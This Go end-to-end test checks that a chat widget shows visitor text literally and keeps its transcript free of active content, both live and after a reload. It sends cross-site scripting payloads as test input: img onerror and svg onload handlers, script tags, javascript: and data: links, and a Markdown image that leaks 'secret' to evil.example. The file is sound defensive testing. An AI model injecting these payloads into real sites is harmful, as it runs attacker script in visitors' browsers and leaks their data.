package e2e

import (
	"context"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// activeContentJS lists what must never appear in the transcript: elements
// that run code or load from elsewhere, event-handler attributes, and links
// that are not http(s) or mailto. It also reports whether any injected
// handler ran in the frame.
const activeContentJS = `(() => {
	const log = document.querySelector("[data-transcript]");
	const found = [];
	for (const e of log.querySelectorAll("script, img, iframe, object, embed, style, link, form, input, video, audio, svg image, base, meta")) {
		found.push("<" + e.tagName.toLowerCase() + ">");
	}
	for (const e of log.querySelectorAll("*")) {
		for (const a of e.attributes) if (/^on/i.test(a.name)) found.push(e.tagName.toLowerCase() + "[" + a.name + "]");
		if (e.tagName === "A" && e.hasAttribute("href") && !/^(https?|mailto):$/.test(e.protocol)) found.push("a[href=" + e.getAttribute("href") + "]");
	}
	if (document.documentElement.hasAttribute("data-pwned") || window.pwned) found.push("an injected handler ran");
	return found;
})()`

// TestWidgetRendersMarkdownSafely (SECURITY PI-04) sends visitor text full of
// HTML and dangerous Markdown, and asks a question whose answer contains an
// HTML snippet. Visitor text shows literally; nothing in the transcript
// becomes an element that runs code, loads a resource or links to a script
// URL — neither live nor after a reload re-renders the stored transcript.
func TestWidgetRendersMarkdownSafely(t *testing.T) {
	docent := startDocent(t, 0)
	hostBase := startHostPages(t, docent.URL)
	b := newBrowser(t)
	ctx, cancel := context.WithTimeout(b.tab, testTimeout)
	defer cancel()
	loadHostPage(t, ctx, hostBase+"/host")
	frame := openWidget(t, ctx, b, docent.URL, nil)
	var dialogs atomic.Int32
	countDialogs := func(ev any) {
		if _, ok := ev.(*page.EventJavascriptDialogOpening); ok {
			dialogs.Add(1)
		}
	}
	for _, c := range []context.Context{ctx, frame.ctx} {
		if err := chromedp.Listen(c, countDialogs); err != nil {
			t.Fatal(err)
		}
	}

	messages := []struct{ name, text string }{
		{"img onerror and script", `<img src=x onerror="window.parent.pwned=1"><script>alert(1)</script>`},
		{"handler on the frame itself", `<img src=x onerror="document.documentElement.setAttribute('data-pwned','1')"><svg onload="alert(1)">`},
		{"javascript and data links", `[click me](javascript:alert(1)) <a href="javascript:alert(1)">x</a> [d](data:text/html,<script>alert(1)</script>)`},
		{"markdown image to another site", `![tracker](https://evil.example/pixel.png?q=secret) **bold** <b>b</b>`},
	}
	for _, m := range messages {
		before, err := eval[int](frame.ctx, `document.querySelectorAll('[data-transcript] [data-role="assistant"]').length`)
		if err != nil {
			t.Fatal(err)
		}
		if err := frame.send(m.text); err != nil {
			t.Fatalf("%s: send: %v", m.name, err)
		}
		if _, err := frame.waitReply(before); err != nil {
			t.Fatalf("%s: %v; transcript:%s", m.name, err, describe(mustTranscript(t, frame)))
		}
		bubbles := mustTranscript(t, frame)
		if user := lastUser(bubbles); user.Text != m.text {
			t.Errorf("%s: the visitor's bubble shows %q, want the literal text %q", m.name, user.Text, m.text)
		}
		assertInert(t, frame, m.name)
	}

	// The bot's own answer carries an HTML snippet (the embed <script> tag).
	before, err := eval[int](frame.ctx, `document.querySelectorAll('[data-transcript] [data-role="assistant"]').length`)
	if err != nil {
		t.Fatal(err)
	}
	if err := frame.send(embedQuestion); err != nil {
		t.Fatal(err)
	}
	if _, err := frame.waitReply(before); err != nil {
		t.Fatal(err)
	}
	bubbles := mustTranscript(t, frame)
	if answer := bubbles[len(bubbles)-1]; !strings.Contains(answer.Text, "<script") || !strings.Contains(answer.Text, "widget.js") {
		t.Errorf("want the embed snippet shown as text in the answer, got %s", answer)
	}
	assertInert(t, frame, "answer with an HTML snippet")

	// After a reload the transcript is rendered again from the server's copy.
	frame = reloadAndOpen(t, ctx, b, docent.URL, frame)
	if err := chromedp.Listen(frame.ctx, countDialogs); err != nil {
		t.Fatal(err)
	}
	bubbles = mustTranscript(t, frame)
	if got := count(bubbles, func(b bubble) bool { return b.Role == "user" }); got != len(messages)+1 {
		t.Errorf("resumed transcript has %d visitor messages, want %d:%s", got, len(messages)+1, describe(bubbles))
	}
	for i, b := range userBubbles(bubbles) {
		if i < len(messages) && b.Text != messages[i].text {
			t.Logf("stored visitor message %d shows %q (sent %q): the server changed it", i, b.Text, messages[i].text)
		}
	}
	assertInert(t, frame, "resumed transcript")
	if n := dialogs.Load(); n != 0 {
		t.Errorf("%d JavaScript dialogs opened: injected script ran", n)
	}
	if pwned, err := eval[bool](ctx, `window.pwned !== undefined`); err != nil || pwned {
		t.Errorf("host page window.pwned is set (%v): injected script reached the host page", err)
	}
}

func assertInert(t *testing.T, frame *widgetFrame, what string) {
	t.Helper()
	found, err := eval[[]string](frame.ctx, activeContentJS)
	if err != nil {
		t.Fatal(err)
	}
	if len(found) > 0 {
		html, _ := eval[string](frame.ctx, `document.querySelector("[data-transcript]").innerHTML`)
		t.Errorf("%s: active content in the transcript: %v\ntranscript HTML: %s", what, found, html)
	}
}

func userBubbles(list []bubble) []bubble {
	var out []bubble
	for _, b := range list {
		if b.Role == "user" {
			out = append(out, b)
		}
	}
	return out
}

func lastUser(list []bubble) bubble {
	users := userBubbles(list)
	if len(users) == 0 {
		return bubble{}
	}
	return users[len(users)-1]
}
